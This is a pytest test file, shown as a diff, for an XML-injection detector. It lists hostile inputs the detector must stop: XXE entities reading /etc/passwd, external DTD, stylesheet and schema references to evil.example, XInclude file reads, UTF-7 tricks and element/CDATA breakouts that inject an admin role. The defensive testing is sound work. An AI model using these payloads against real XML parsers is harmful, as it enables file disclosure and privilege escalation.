@@ -1,0 +1,65 @@
+"""Values that would add to the XML document that they are pasted into."""
+
+from __future__ import annotations
+
+import pytest
+from tests.support.suspects import STOPS, Suspects
+
+from vallum.inspection.detectors.xml import DETECTOR
+
+SUSPECTS = Suspects(DETECTOR)
+
+
+@pytest.mark.parametrize(
+    ("text", "rule"),
+    [
+        ('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>', "xml.entity"),
+        ('<!DOCTYPE a SYSTEM "http://evil.example/a.dtd">', "xml.entity"),
+        ('<!ENTITY % b SYSTEM "http://evil.example/">', "xml.entity"),
+        ('<?xml version="1.0"?><!DOCTYPE a><a/>', "xml.entity"),
+        ('<xi:include href="file:///etc/passwd" parse="text"/>', "xml.include"),
+        ('<?xml-stylesheet href="http://evil.example/x.xsl"?>', "xml.transform"),
+        ("<xsl:value-of select=\"document('x')\"/>", "xml.transform"),
+        ('<a xsi:schemaLocation="x http://evil.example/x.xsd"/>', "xml.schema-location"),
+        ('<xs:import schemaLocation="http://evil.example/x.xsd"/>', "xml.schema-location"),
+        ('<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-', "xml.charset"),
+        ("</name><role>admin</role><name>", "xml.element"),
+        ("bob</user></item><item><price>0</price>", "xml.element"),
+        ("</soap:Body></soap:Envelope>", "xml.element"),
+        ('"/><role>admin</role><x a="', "xml.element"),
+        ("]]></data><role>admin</role><data><![CDATA[", "xml.cdata"),
+        ("<![CDATA[<]]>script<![CDATA[>]]>", "xml.cdata"),
+        ("admin<!---->@evil.example", "xml.comment"),
+        ("<soapenv:Envelope><soapenv:Body/></soapenv:Envelope>", "xml.envelope"),
+    ],
+)
+def test_xml_in_a_value_is_stopped(text: str, rule: str) -> None:
+    """The strongest judgement decides; what else is found must not hide it."""
+    found = [each for _, each in SUSPECTS.judge(text) if each.score >= STOPS]
+    assert found
+    assert (
+        rule in {each.rule for each in found} or max(found, key=lambda each: each.score).score > 7
+    )
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "<p>Hello</p><p>World</p>",
+        "</p><p>next",
+        "</div><div class='a'><b>x</b>",
+        "List<String> and Map<K, V>",
+        "<name> and <role> are placeholders",
+        "if a[b[0]]>1 then x",
+        "x[y[i]]> <b>",
+        "<!-- please fill in -->\n<!-- thanks -->",
+        "<!DOCTYPE html><html><body>x</body></html>",
+        '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/x.dtd"><html/>',
+        '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0"/></svg>',
+        "<note><to>Tove</to><from>Jani</from></note>",
+        "<![CDATA[some text]]>",
+        "#include <stdio.h>\n#include <x>",
+    ],
+)
+def test_ordinary_markup_passes(text: str) -> None:
+    assert SUSPECTS.score(text, "body") < STOPS
